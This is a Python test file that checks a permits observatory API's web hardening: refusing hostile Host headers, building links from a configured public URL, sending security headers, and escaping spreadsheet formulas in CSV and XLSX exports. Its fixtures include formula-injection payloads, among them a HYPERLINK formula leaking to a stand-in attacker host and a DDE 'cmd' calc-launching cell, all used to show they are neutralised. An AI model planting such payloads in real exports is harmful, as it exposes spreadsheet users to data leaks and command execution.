"""Web hardening (issue 19, part 5): links and redirects on the public address, never a hostile
``Host``; security headers on every kind of response; spreadsheet formulas neutralised in every
CSV and XLSX written.

One live server per store over the fixture municipalities and permits, three of which carry ids a
spreadsheet would run as formulas; a second one configured with a ``public_url``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import geopandas as gpd
import httpx
import openpyxl
import pandas as pd
import pytest
import shapely

from observatory.api.security_headers import POLICY
from observatory.files import FORMATS, write_frame
from observatory.settings import Settings
from observatory.spreadsheet import neutralise, neutralise_frame
from observatory.store import Store, open_store
from tests import fixtures
from tests.conftest import STORES, fresh_settings, serving
from tests.fixtures import X0, Y0

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","ver")'
BUILD = "permiso_construccion"
FORMULAS = [
    (HYPERLINK, BUILD, "habitacional", 120, 2500, "2017-06-01", "2017-06-20", X0 + 600, Y0 + 700),
    ("+SUM(1,2)", BUILD, "comercio", 80, 900, "2017-07-03", "2017-07-21", X0 + 700, Y0 + 600),
    ("@cmd", BUILD, "comercio", 60, 400, "2017-08-01", "2017-08-18", X0 + 800, Y0 + 900),
]  # fmt: skip
PUBLIC = "https://observatorio.example.org/api"
HOSTILE = "evil.example"
TILE = "/collections/permits/tiles/WebMercatorQuad/0/0/0"


@pytest.fixture(scope="module", params=STORES)
def loaded(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Store, Settings]]:
    folder = tmp_path_factory.mktemp(f"web-{request.param}")
    with fresh_settings(request.param, folder) as settings:
        store = open_store(settings)
        fixtures.load(store, "municipalities", fixtures.write_municipalities(folder), settings=settings)
        fixtures.load(
            store, "permits", fixtures.write_permits(folder, fixtures.PERMITS + FORMULAS), settings=settings
        )
        yield store, settings
        store.close()


@pytest.fixture(scope="module")
def server(loaded: tuple[Store, Settings]) -> Iterator[str]:
    """No ``public_url``: links on the request's own (allowed) host."""
    with serving(*loaded) as url:
        yield url


@pytest.fixture(scope="module")
def public_server(loaded: tuple[Store, Settings]) -> Iterator[str]:
    store, settings = loaded
    with serving(store, settings.model_copy(update={"public_url": PUBLIC})) as url:
        yield url


def get(url: str, **headers: str) -> httpx.Response:
    return httpx.get(url, headers=headers, timeout=30)


def hrefs(body: object) -> list[str]:
    """Every ``href`` in a JSON document."""
    if isinstance(body, dict):
        return [str(v) for k, v in body.items() if k == "href"] + [h for v in body.values() for h in hrefs(v)]
    if isinstance(body, list):
        return [h for item in body for h in hrefs(item)]
    return []


# Links and redirects


def test_a_hostile_host_is_refused_everywhere(server: str) -> None:
    assert get(server + TILE).status_code == 200  # now cached: the next one would be answered first
    for path in ["/collections", "/collections/", "/?f=json", TILE, "/map", "/static/app/map.js", "/nowhere"]:
        refused = get(server + path, Host=HOSTILE)
        assert refused.status_code == 400, path
        assert refused.headers["content-type"] == "application/problem+json"
        assert HOSTILE not in refused.headers.get("location", "")
        assert refused.headers["content-security-policy"] == POLICY  # a refusal is a response too
    for allowed in ["localhost", "127.0.0.1", server.removeprefix("http://")]:
        assert get(f"{server}/collections", Host=allowed).status_code == 200, allowed


def test_links_follow_an_allowed_host_and_ignore_untrusted_proxy_headers(server: str) -> None:
    body = get(f"{server}/collections/permits/items?limit=2", Host="localhost:8000").json()
    assert hrefs(body) and all(h.startswith("http://localhost:8000/") for h in hrefs(body))
    # No trusted proxy by default: X-Forwarded-Proto from 127.0.0.1 changes nothing.
    forwarded = get(f"{server}/collections/permits/items?limit=2", **{"X-Forwarded-Proto": "https"}).json()
    assert all(h.startswith(server + "/") for h in hrefs(forwarded))
    moved = httpx.get(f"{server}/collections/", headers={"Host": "localhost:8000"})
    assert moved.status_code == 307 and moved.headers["location"] == "http://localhost:8000/collections"


def test_the_public_url_builds_every_link_and_redirect(public_server: str) -> None:
    port = public_server.rsplit(":", 1)[1]
    for host in [f"127.0.0.1:{port}", "observatorio.example.org"]:  # its host is allowed too
        for path in [
            "/?f=json",
            "/collections",
            "/collections/permits/items?limit=2",
            "/collections/permits/items/P1",
            "/collections/permits/tiles",
            "/collections/permits/tiles/WebMercatorQuad/tilejson.json",
            "/feeds/v1",
        ]:
            response = get(public_server + path, Host=host, **{"X-Forwarded-Proto": "http"})
            assert response.status_code == 200, (path, response.text)
            body = response.json()
            links = hrefs(body) + body.get("tiles", [])
            assert links and all(h.startswith(PUBLIC + "/") for h in links), (path, links)
        items = get(f"{public_server}/collections/permits/items?limit=2&offset=1", Host=host).json()
        paging = {link["rel"]: link["href"] for link in items["links"]}
        assert paging["next"] == f"{PUBLIC}/collections/permits/items?limit=2&offset=3"
        assert paging["prev"] == f"{PUBLIC}/collections/permits/items?limit=2&offset=0"
        # FastAPI's trailing-slash redirect and the landing page's redirect to the map.
        slash = httpx.get(f"{public_server}/collections/", headers={"Host": host})
        assert slash.status_code == 307 and slash.headers["location"] == f"{PUBLIC}/collections"
        landing = httpx.get(f"{public_server}/", headers={"Host": host, "Accept": "text/html"})
        assert landing.status_code == 303 and landing.headers["location"] == f"{PUBLIC}/map"
    # The links no longer depend on the Host: caches need not key on it.
    vary = get(f"{public_server}/collections/permits/items?limit=2").headers["vary"]
    assert "Host" not in vary and "X-Forwarded-Proto" not in vary
    assert get(public_server + "/collections", Host=HOSTILE).status_code == 400


def test_public_url_must_be_absolute() -> None:
    assert Settings(public_url="https://observatorio.example.org/api/").public_url == PUBLIC
    for bad in ["observatorio.example.org", "/api", "ftp://example.org", "https://example.org/?a=1"]:
        with pytest.raises(ValueError, match="public_url"):
            Settings(public_url=bad)


# Security headers


def assert_secured(response: httpx.Response) -> None:
    headers = response.headers
    assert headers["content-security-policy"] == POLICY, response.url
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "strict-origin-when-cross-origin"


def test_every_kind_of_response_carries_the_security_headers(server: str) -> None:
    for path in [
        "/map",
        "/docs",
        "/static/app/map.js",
        "/static/app/docs.js",
        "/collections",
        "/openapi.json",
    ]:
        response = get(server + path)
        assert response.status_code == 200, path
        assert_secured(response)
    error = get(server + "/collections/nowhere")
    assert error.status_code == 404
    assert_secured(error)
    assert_secured(get(server + "/collections/nowhere", Accept="text/html"))  # the HTML error page
    built, hit = get(server + TILE), get(server + TILE)  # the second answered before the middleware
    assert built.status_code == hit.status_code == 200 and hit.content == built.content
    assert_secured(hit)
    current = get(server + TILE, **{"If-None-Match": hit.headers["etag"]})
    assert current.status_code == 304
    assert_secured(current)


def test_the_policy_allows_nothing_inline_and_no_framing() -> None:
    assert "unsafe-inline" not in POLICY and "unsafe-eval" not in POLICY
    assert "frame-ancestors 'none'" in POLICY and "script-src 'self'" in POLICY


def test_no_page_has_inline_scripts_styles_or_handlers(server: str) -> None:
    for path in ["/map", "/docs", "/collections/nowhere"]:
        page = get(server + path, Accept="text/html").text
        assert "<script>" not in page and "<style" not in page and " style=" not in page, path
        assert " onload=" not in page and " onclick=" not in page, path
        assert all("src=" in tag for tag in page.split("<script")[1:]), path


# Spreadsheet formulas


def test_items_csv_neutralises_formulas_and_keeps_numbers(server: str) -> None:
    text = get(f"{server}/collections/permits/items?f=csv&limit=100").text
    rows = {row["permit_id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert {"'" + HYPERLINK, "'+SUM(1,2)", "'@cmd", "P1"} <= set(rows)
    assert HYPERLINK not in rows and rows["'" + HYPERLINK]["floor_area_m2"] in ("120", "120.0")
    assert rows["P1"]["investment_usd"] in ("1000", "1000.0")


@pytest.mark.parametrize("format_name", ["csv", "xlsx"])
def test_downloads_neutralise_formulas_and_keep_numbers(
    server: str, tmp_path: Path, format_name: str
) -> None:
    response = get(f"{server}/collections/permits/download?f={format_name}")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith(FORMATS[format_name].media_type)
    path = tmp_path / f"permits.{format_name}"
    path.write_bytes(response.content)
    if format_name == "csv":
        rows = list(csv.DictReader(io.StringIO(response.text)))
        ids = {row["permit_id"] for row in rows}
    else:
        sheet = openpyxl.load_workbook(path).active
        assert sheet is not None
        header = [cell.value for cell in sheet[1]]
        cells = {column: [row[i] for row in sheet.iter_rows(min_row=2)] for i, column in enumerate(header)}
        ids = {cell.value for cell in cells["permit_id"]}
        assert all(cell.data_type == "s" for cell in cells["permit_id"])  # text, never a formula ("f")
        investments = [cell for cell in cells["investment_usd"] if cell.value is not None]
        assert investments and all(cell.data_type == "n" for cell in investments)
        assert all(str(cell.value).startswith("POINT") for cell in cells["geometry"])
    assert {"'" + HYPERLINK, "'+SUM(1,2)", "'@cmd", "P1", "P5"} <= ids and HYPERLINK not in ids


def test_one_rule_for_text_cells_numbers_untouched(tmp_path: Path) -> None:
    assert [neutralise(v) for v in ["=1+1", "+1", "-1", "@a", "\tx", "\rx", "a=b", "", None, -3.5, 7]] == [
        "'=1+1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=b", "", None, -3.5, 7,
    ]  # fmt: skip
    frame = gpd.GeoDataFrame(
        {"label": ["=cmd|' /C calc'!A0", "-2", "ok"], "change": [-2.5, 3.0, -1.0], "n": [-1, 2, 3]},
        geometry=[shapely.Point(-89.2, 13.7)] * 3,
        crs="EPSG:4326",
    )
    safe = neutralise_frame(frame.assign(kind=pd.Categorical(["@x", "y", "@x"])))
    assert list(safe["label"]) == ["'=cmd|' /C calc'!A0", "'-2", "ok"]
    assert list(safe["kind"]) == ["'@x", "y", "'@x"]
    assert safe["change"].tolist() == [-2.5, 3.0, -1.0] and safe["n"].tolist() == [-1, 2, 3]
    csv_path, xlsx_path = tmp_path / "t.csv", tmp_path / "t.xlsx"
    write_frame(frame, csv_path, FORMATS["csv"], name="t")
    write_frame(frame, xlsx_path, FORMATS["xlsx"], name="t")
    written = pd.read_csv(csv_path)
    assert written["label"].tolist() == ["'=cmd|' /C calc'!A0", "'-2", "ok"]
    assert written["change"].tolist() == [-2.5, 3.0, -1.0]
    sheet = openpyxl.load_workbook(xlsx_path).active
    assert sheet is not None
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[1][:3] == ["'=cmd|' /C calc'!A0", -2.5, -1] and rows[2][:2] == ["'-2", 3]


def test_serve_trusts_forwarded_headers_only_from_configured_proxies(monkeypatch: pytest.MonkeyPatch) -> None:
    from observatory import cli
    from observatory.settings import get_settings

    started: list[dict[str, object]] = []
    monkeypatch.setattr(cli.uvicorn, "run", lambda *args, **options: started.append(options))
    cases = [
        ("", {"proxy_headers": False, "forwarded_allow_ips": None}),
        ("10.0.0.5", {"proxy_headers": True, "forwarded_allow_ips": "10.0.0.5"}),
    ]
    for trusted, expected in cases:
        monkeypatch.setenv("OBSERVATORY_FORWARDED_ALLOW_IPS", trusted)
        get_settings.cache_clear()
        cli.serve(host="127.0.0.1", port=8000, workers=1, access_log=False)
        assert {key: started[-1][key] for key in expected} == expected
    get_settings.cache_clear()
